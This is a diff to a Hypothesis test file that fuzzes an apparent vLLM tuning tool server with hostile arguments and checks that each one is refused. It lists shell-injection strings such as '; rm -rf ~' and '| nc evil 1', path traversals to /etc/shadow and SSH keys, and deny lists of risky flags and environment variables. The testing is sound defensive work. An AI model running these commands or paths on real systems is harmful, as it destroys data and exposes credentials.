@@ -36,6 +36,7 @@ LADDER = "ladders/l8b.yml"
 
 # ---- values: each of them must be refused where it is used ----------------------------------------
 
+
 def _numeric(text: str) -> bool:
     try:
         float(text)
@@ -45,43 +46,110 @@ def _numeric(text: str) -> bool:
 
 
 words = st.text(max_size=8).filter(lambda t: not _numeric(t) and t.strip().lower() not in ("true", "false"))
-containers = st.one_of(st.lists(st.integers(), max_size=3), st.dictionaries(st.text(max_size=3), st.integers(), max_size=2))
+containers = st.one_of(
+    st.lists(st.integers(), max_size=3), st.dictionaries(st.text(max_size=3), st.integers(), max_size=2)
+)
 non_str = st.one_of(st.integers(), st.floats(allow_nan=False), st.booleans(), containers)
 non_int = st.one_of(words, containers, st.floats(allow_nan=False, allow_infinity=False).filter(lambda f: f != int(f)))
 non_float = st.one_of(words, containers)
-injection = st.sampled_from([
-    "; rm -rf ~", "$(touch pwned)", "`touch pwned`", "| nc evil 1", "&& reboot", "\n--help", "--help",
-    "-oProxyCommand=touch pwned", "--served-model-name=x", "-rf", "--", "x\x00y", "\r\nINJECT", "${IFS}",
-])
-outside = st.sampled_from([
-    "/etc/passwd", "/tmp/pwned.yml", "../outside/victim.yml", "ladders/../../outside/victim.yml", "../../../../etc/shadow",
-    "escape/victim.yml", "escape/new.yml", "escape/sub/new.yml", "ladders/evil.yml", "~/.ssh/id_rsa.yml", "\\\\host\\share\\l.yml", ".redline/jobs/x.yml",
-    "-rf.yml", "ladders/--help.yml", "", " ", "x" * 2000 + ".yml", "l\x00.yml", "l\n.yml",
-])
+injection = st.sampled_from(
+    [
+        "; rm -rf ~",
+        "$(touch pwned)",
+        "`touch pwned`",
+        "| nc evil 1",
+        "&& reboot",
+        "\n--help",
+        "--help",
+        "-oProxyCommand=touch pwned",
+        "--served-model-name=x",
+        "-rf",
+        "--",
+        "x\x00y",
+        "\r\nINJECT",
+        "${IFS}",
+    ]
+)
+outside = st.sampled_from(
+    [
+        "/etc/passwd",
+        "/tmp/pwned.yml",
+        "../outside/victim.yml",
+        "ladders/../../outside/victim.yml",
+        "../../../../etc/shadow",
+        "escape/victim.yml",
+        "escape/new.yml",
+        "escape/sub/new.yml",
+        "ladders/evil.yml",
+        "~/.ssh/id_rsa.yml",
+        "\\\\host\\share\\l.yml",
+        ".redline/jobs/x.yml",
+        "-rf.yml",
+        "ladders/--help.yml",
+        "",
+        " ",
+        "x" * 2000 + ".yml",
+        "l\x00.yml",
+        "l\n.yml",
+    ]
+)
 # a ladder name no tool may create or read: out of the workspace, not a .yml, or with shell characters
-unusable_ladder = st.one_of(outside, non_str, st.sampled_from(["ladders/l8b.json", "ladders", "ladders/l8b"]),
-                            injection.map(lambda s: f"ladders/{s}.yml"))
+unusable_ladder = st.one_of(
+    outside,
+    non_str,
+    st.sampled_from(["ladders/l8b.json", "ladders", "ladders/l8b"]),
+    injection.map(lambda s: f"ladders/{s}.yml"),
+)
 bad_ladder = st.one_of(unusable_ladder, st.just("ladders/missing.yml"))  # for tools that read it
 bad_new_ladder = st.one_of(unusable_ladder, st.just("ladders/l8b.yml"))  # for ladder_init: it exists
-bad_target = st.one_of(non_str, injection, st.sampled_from(["gpu9", "LOCAL", "local ", "../local", "", "a" * 300]),
-                       injection.map(lambda s: "local" + s))
-bad_job_id = st.one_of(non_str, outside, injection, st.text(max_size=40).filter(lambda s: not s.startswith("j-2")),
-                       st.just("j-20261130T100000Z-00000000"))
+bad_target = st.one_of(
+    non_str,
+    injection,
+    st.sampled_from(["gpu9", "LOCAL", "local ", "../local", "", "a" * 300]),
+    injection.map(lambda s: "local" + s),
+)
+bad_job_id = st.one_of(
+    non_str,
+    outside,
+    injection,
+    st.text(max_size=40).filter(lambda s: not s.startswith("j-2")),
+    st.just("j-20261130T100000Z-00000000"),
+)
 bad_wait = st.one_of(st.floats(max_value=-0.001), st.floats(min_value=300.001), non_float)
-out_of_range = st.one_of(st.integers(min_value=1 << 26 + 1), st.integers(max_value=0), st.just(1 << 63), st.just(-(1 << 63)))
+out_of_range = st.one_of(
+    st.integers(min_value=1 << 26 + 1), st.integers(max_value=0), st.just(1 << 63), st.just(-(1 << 63))
+)
 bad_count = st.one_of(out_of_range, non_int)
 bad_replay = st.one_of(st.integers(max_value=0), st.integers(min_value=100_001), non_int)
 markers = ("version", "vllm", "vLLM", "APIServer", "EngineCore", "non-default")
-not_a_log = st.one_of(st.text(max_size=300).filter(lambda t: not any(m in t for m in markers)),
-                      st.sampled_from(["", "INFO hello", "Traceback (most recent call last):"]))
+not_a_log = st.one_of(
+    st.text(max_size=300).filter(lambda t: not any(m in t for m in markers)),
+    st.sampled_from(["", "INFO hello", "Traceback (most recent call last):"]),
+)
 bad_model_key = st.one_of(injection, st.just(""), st.just("x" * 201), st.just("a b"), non_str)
-bad_model_path = st.one_of(st.sampled_from(["-rf", "--load-format=dummy", "--", "-x y", "a\x00b", "\x1b[2J", ""]), non_str)
+bad_model_path = st.one_of(
+    st.sampled_from(["-rf", "--load-format=dummy", "--", "-x y", "a\x00b", "\x1b[2J", ""]), non_str
+)
 bad_fraction = st.one_of(st.floats(max_value=0), st.floats(min_value=1.001), non_float)
 # flag and shell injection in the extra flags and env of the knobs a ladder holds fixed
-bad_flag = st.one_of(injection, st.sampled_from([
-    "--host=0.0.0.0", "--port=22", "--max-model-len=1", "--model=/etc", "-cc", "--x y", "--X", "--a\nb", "foo",
-    "--enforce-eager\n--trust-remote-code", "",
-]))
+bad_flag = st.one_of(
+    injection,
+    st.sampled_from(
+        [
+            "--host=0.0.0.0",
+            "--port=22",
+            "--max-model-len=1",
+            "--model=/etc",
+            "-cc",
+            "--x y",
+            "--X",
+            "--a\nb",
+            "foo",
+            "--enforce-eager\n--trust-remote-code",
+            "",
+        ]
+    ),
+)
 bad_fixed = st.one_of(
     st.builds(lambda flags: {"extra_flags": flags}, st.lists(bad_flag, min_size=1, max_size=3)),
     st.builds(lambda k: {"env": {k: "1"}}, st.sampled_from(["A B", "1X", "X;Y", "$(x)", "", "A=B", "-x"])),
@@ -89,24 +157,66 @@ bad_fixed = st.one_of(
     st.builds(lambda p: {"port": p}, st.one_of(st.integers(max_value=0), st.integers(min_value=65536), non_int)),
     st.builds(lambda v: {"kv_cache_dtype": v}, st.sampled_from(["fp8; rm -rf /", "--x", "FP8", ""])),
     st.builds(lambda v: {"host": v}, st.sampled_from(["0.0.0.0 --x", "a;b", "$(id)", ""])),
-    st.dictionaries(st.sampled_from(["evil", "model", "max_model_len", "command"]), st.integers(), min_size=1, max_size=2),
+    st.dictionaries(
+        st.sampled_from(["evil", "model", "max_model_len", "command"]), st.integers(), min_size=1, max_size=2
+    ),
     non_str.filter(lambda v: not isinstance(v, dict)),
 )
 
 # ---- classes 1 and 2: knobs in generated spellings --------------------------------------------------------
 
 # Options a serve config owns (class 2) and options that load code, read host files or open access (class 1).
-OWNED = ["--max-model-len", "--max-num-batched-tokens", "--gpu-memory-utilization", "--kv-cache-dtype", "--port",
-         "--host", "--tensor-parallel-size", "--pipeline-parallel-size", "--data-parallel-size", "--enforce-eager",
-         "--compilation-config", "--max-num-seqs", "--enable-prefix-caching", "--enable-chunked-prefill",
-         "--load-format"]
-REFUSED = ["--trust-remote-code", "--worker-extension-cls", "--worker-cls", "--middleware", "--logits-processors",
-           "--allowed-local-media-path", "--chat-template", "--download-dir", "--tokenizer", "--hf-overrides",
-           "--api-key", "--ssl-keyfile", "--allowed-origins", "--tool-parser-plugin", "--kv-transfer-config",
-           "--enable-sleep-mode"]  # the last is allowed only where the server config widens it
-REFUSED_ENV = ["LD_PRELOAD", "LD_LIBRARY_PATH", "PYTHONPATH", "PYTHONHOME", "PYTHONSTARTUP", "PATH", "BASH_ENV",
-               "HF_ENDPOINT", "HF_HOME", "VLLM_PLUGINS", "NCCL_NET_PLUGIN", "TRANSFORMERS_CACHE", "FAKE_VLLM_BOOT_S",
-               "MY_OWN_SWITCH"]
+OWNED = [
+    "--max-model-len",
+    "--max-num-batched-tokens",
+    "--gpu-memory-utilization",
+    "--kv-cache-dtype",
+    "--port",
+    "--host",
+    "--tensor-parallel-size",
+    "--pipeline-parallel-size",
+    "--data-parallel-size",
+    "--enforce-eager",
+    "--compilation-config",
+    "--max-num-seqs",
+    "--enable-prefix-caching",
+    "--enable-chunked-prefill",
+    "--load-format",
+]
+REFUSED = [
+    "--trust-remote-code",
+    "--worker-extension-cls",
+    "--worker-cls",
+    "--middleware",
+    "--logits-processors",
+    "--allowed-local-media-path",
+    "--chat-template",
+    "--download-dir",
+    "--tokenizer",
+    "--hf-overrides",
+    "--api-key",
+    "--ssl-keyfile",
+    "--allowed-origins",
+    "--tool-parser-plugin",
+    "--kv-transfer-config",
+    "--enable-sleep-mode",
+]  # the last is allowed only where the server config widens it
+REFUSED_ENV = [
+    "LD_PRELOAD",
+    "LD_LIBRARY_PATH",
+    "PYTHONPATH",
+    "PYTHONHOME",
+    "PYTHONSTARTUP",
+    "PATH",
+    "BASH_ENV",
+    "HF_ENDPOINT",
+    "HF_HOME",
+    "VLLM_PLUGINS",
+    "NCCL_NET_PLUGIN",
+    "TRANSFORMERS_CACHE",
+    "FAKE_VLLM_BOOT_S",
+    "MY_OWN_SWITCH",
+]
 
 
 @st.composite
@@ -127,8 +237,9 @@ def spelled(draw: st.DrawFn, options: list[str]) -> str:
 owned_flag = spelled(OWNED)
 refused_flag = spelled(REFUSED)
 smuggled = st.one_of(
-    st.builds(lambda flags: {"extra_flags": flags}, st.lists(st.one_of(owned_flag, refused_flag), min_size=1,
-                                                                  max_size=3)),
+    st.builds(
+        lambda flags: {"extra_flags": flags}, st.lists(st.one_of(owned_flag, refused_flag), min_size=1, max_size=3)
+    ),
     st.builds(lambda name: {"env": {name: "x"}}, st.sampled_from(REFUSED_ENV)),
 )
 
@@ -136,25 +247,44 @@ GOOD = {"ladder": st.just(LADDER), "target": st.just("local"), "wait_s": st.just
 
 # tool -> every argument it takes, with values that must be refused there
 TOOLS: dict[str, dict[str, st.SearchStrategy[Any]]] = {
-    "ladder_init": {"ladder": bad_new_ladder, "model": bad_model_key, "model_path": bad_model_path,
-                    "floor_max_model_len": bad_count, "floor_max_num_batched_tokens": bad_count,
-                    "gpu_memory_utilization": bad_fraction, "min_concurrency": bad_count,
-                    "policy": st.one_of(injection, non_str), "gpu_count": bad_count,
-                    "fixed": st.one_of(bad_fixed, smuggled)},
+    "ladder_init": {
+        "ladder": bad_new_ladder,
+        "model": bad_model_key,
+        "model_path": bad_model_path,
+        "floor_max_model_len": bad_count,
+        "floor_max_num_batched_tokens": bad_count,
+        "gpu_memory_utilization": bad_fraction,
+        "min_concurrency": bad_count,
+        "policy": st.one_of(injection, non_str),
+        "gpu_count": bad_count,
+        "fixed": st.one_of(bad_fixed, smuggled),
+    },
     "ladder_status": {"ladder": bad_ladder},
     "ladder_next_rung": {"ladder": bad_ladder, "replay": bad_replay},
     "rung_run": {"ladder": bad_ladder, "target": bad_target, "replay": bad_replay, "wait_s": bad_wait},
     "smoke_test": {"ladder": bad_ladder, "target": bad_target, "wait_s": bad_wait},
-    "rung_record": {"ladder": bad_ladder, "log_text": not_a_log, "log_file": st.one_of(outside, non_str, injection),
-                    "bench_file": st.one_of(outside, injection)},
+    "rung_record": {
+        "ladder": bad_ladder,
+        "log_text": not_a_log,
+        "log_file": st.one_of(outside, non_str, injection),
+        "bench_file": st.one_of(outside, injection),
+    },
     "ceiling_record": {"ladder": bad_ladder},
     "parse_boot_log": {"text": st.one_of(not_a_log, non_str)},
     "job_status": {"job_id": bad_job_id, "wait_s": bad_wait},
     "job_cancel": {"job_id": bad_job_id},
     "job_list": {"state": st.one_of(injection, st.sampled_from(["done", "RUNNING"]), non_str), "limit": bad_count},
 }
-REQUIRED = {"ladder", "target", "job_id", "text", "model", "model_path", "floor_max_model_len",
-            "floor_max_num_batched_tokens"}
+REQUIRED = {
+    "ladder",
+    "target",
+    "job_id",
+    "text",
+    "model",
+    "model_path",
+    "floor_max_model_len",
+    "floor_max_num_batched_tokens",
+}
 
 
 def _good(tool: str, name: str) -> st.SearchStrategy[Any]:
@@ -183,8 +313,10 @@ def hostile_call(draw: st.DrawFn) -> tuple[str, dict[str, Any]]:
 
 def _tree(path: Path) -> dict[str, str]:
     """Every file under path, with a hash of its content."""
-    return {str(p.relative_to(path)): hashlib.sha256(p.read_bytes()).hexdigest() if p.is_file() else "dir"
-            for p in sorted(path.rglob("*"))}
+    return {
+        str(p.relative_to(path)): hashlib.sha256(p.read_bytes()).hexdigest() if p.is_file() else "dir"
+        for p in sorted(path.rglob("*"))
+    }
 
 
 class Harness:
@@ -231,14 +363,18 @@ LINKED_JOB = "j-20261130T100000Z-0000beef"
 def derived_hazard_call(draw: st.DrawFn) -> tuple[str, dict[str, Any]]:
     """A call that would be fine but for a planted derived path."""
     ladder = f"ladders/{draw(st.sampled_from(HAZARDS))}.yml"
-    return draw(st.sampled_from([
-        ("rung_record", {"ladder": ladder, "log_text": HAND_LOG}),
-        ("rung_run", {"ladder": ladder, "target": "local", "wait_s": 0.0}),
-        ("smoke_test", {"ladder": ladder, "wait_s": 0.0}),
-        ("ceiling_record", {"ladder": ladder}),
-        ("ladder_init", init_args("ladders/h-new.yml", fixed={"port": 18000})),
-        ("job_status", {"job_id": LINKED_JOB}),
-    ]))
+    return draw(
+        st.sampled_from(
+            [
+                ("rung_record", {"ladder": ladder, "log_text": HAND_LOG}),
+                ("rung_run", {"ladder": ladder, "target": "local", "wait_s": 0.0}),
+                ("smoke_test", {"ladder": ladder, "wait_s": 0.0}),
+                ("ceiling_record", {"ladder": ladder}),
+                ("ladder_init", init_args("ladders/h-new.yml", fixed={"port": 18000})),
+                ("job_status", {"job_id": LINKED_JOB}),
+            ]
+        )
+    )
 
 
 HAND_LOG = "filled in by the harness: the log of the floor boot, as a person would paste it"
@@ -246,8 +382,9 @@ HAND_LOG = "filled in by the harness: the log of the floor boot, as a person wou
 
 def edited(base: str, knobs: dict[str, Any]) -> str:
     """The base ladder with a hand edit to its fixed extra flags or env."""
-    return (base.replace("  extra_flags: []", f"  extra_flags: {json.dumps(knobs.get('extra_flags', []))}")
-                .replace("  env: {}", f"  env: {json.dumps(knobs.get('env', {}))}"))
+    return base.replace("  extra_flags: []", f"  extra_flags: {json.dumps(knobs.get('extra_flags', []))}").replace(
+        "  env: {}", f"  env: {json.dumps(knobs.get('env', {}))}"
+    )
 
 
 @pytest.fixture(scope="module")
@@ -258,8 +395,17 @@ def harness(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Harness]:
     outside = root / "srv" / "outside"
     outside.mkdir()
     (outside / "victim.yml").write_text("do not touch\n")
-    (outside / "job.json").write_text(json.dumps({"id": LINKED_JOB, "tool": "rung_run", "state": "succeeded",
-                                                  "owner_pid": 1, "created_at": "2026-11-30T10:00:00+00:00"}))
+    (outside / "job.json").write_text(
+        json.dumps(
+            {
+                "id": LINKED_JOB,
+                "tool": "rung_run",
+                "state": "succeeded",
+                "owner_pid": 1,
+                "created_at": "2026-11-30T10:00:00+00:00",
+            }
+        )
+    )
     (env.workspace / "ladders").mkdir(parents=True)
     (env.workspace / "escape").symlink_to(root / "srv" / "outside")
     (env.workspace / "ladders" / "evil.yml").symlink_to(root / "srv" / "outside" / "evil.yml")
@@ -274,13 +420,21 @@ def harness(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Harness]:
             h.base = (env.workspace / LADDER).read_text()
             HAND_LOG = hand_run_log(h.call("ladder_next_rung", {"ladder": LADDER}).structured_content["command"], env)
             plant_hazards(env.workspace / "ladders", outside, h.base)
-            h.before = {"outside": _tree(root / "srv" / "outside"), "root": sorted(p.name for p in root.iterdir()),
-                        "srv": sorted(p.name for p in (root / "srv").iterdir()), "target": (root / "srv" / "target").exists()}
+            h.before = {
+                "outside": _tree(root / "srv" / "outside"),
+                "root": sorted(p.name for p in root.iterdir()),
+                "srv": sorted(p.name for p in (root / "srv").iterdir()),
+                "target": (root / "srv" / "target").exists(),
+            }
             yield h
 
 
-@settings(max_examples=EXAMPLES, deadline=None, derandomize=True,
-          suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow, HealthCheck.data_too_large])
+@settings(
+    max_examples=EXAMPLES,
+    deadline=None,
+    derandomize=True,
+    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow, HealthCheck.data_too_large],
+)
 @given(hostile_call())
 def test_hostile_inputs_come_back_as_useful_tool_errors(harness: Harness, case: tuple[str, dict[str, Any]]) -> None:
     tool, args = case
@@ -295,8 +449,12 @@ def test_hostile_inputs_come_back_as_useful_tool_errors(harness: Harness, case: 
 KNOBS_EXAMPLES = 150
 
 
-@settings(max_examples=KNOBS_EXAMPLES, deadline=None, derandomize=True,
-          suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
+@settings(
+    max_examples=KNOBS_EXAMPLES,
+    deadline=None,
+    derandomize=True,
+    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
+)
 @given(smuggled)
 def test_hostile_inputs_a_hand_edited_ladder_never_boots_a_refused_or_owned_knob(
     harness: Harness, knobs: dict[str, Any]
@@ -306,15 +464,20 @@ def test_hostile_inputs_a_hand_edited_ladder_never_boots_a_refused_or_owned_knob
     result = harness.call("rung_run", {"ladder": "ladders/edited.yml", "target": "local", "wait_s": 0.0})
     message = text_of(result)
     assert result.is_error, f"rung_run booted {knobs}: {result.structured_content}"
-    assert any(word in message for word in ("refused", "owns", "ambiguous", "not a `vllm serve` option",
-                                            "target's env wins")), message
+    assert any(
+        word in message for word in ("refused", "owns", "ambiguous", "not a `vllm serve` option", "target's env wins")
+    ), message
 
 
 DERIVED_EXAMPLES = 120
 
 
-@settings(max_examples=DERIVED_EXAMPLES, deadline=None, derandomize=True,
-          suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
+@settings(
+    max_examples=DERIVED_EXAMPLES,
+    deadline=None,
+    derandomize=True,
+    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
+)
 @given(derived_hazard_call())
 def test_hostile_inputs_derived_paths_planted_with_links_and_fifos_are_refused(
     harness: Harness, case: tuple[str, dict[str, Any]]
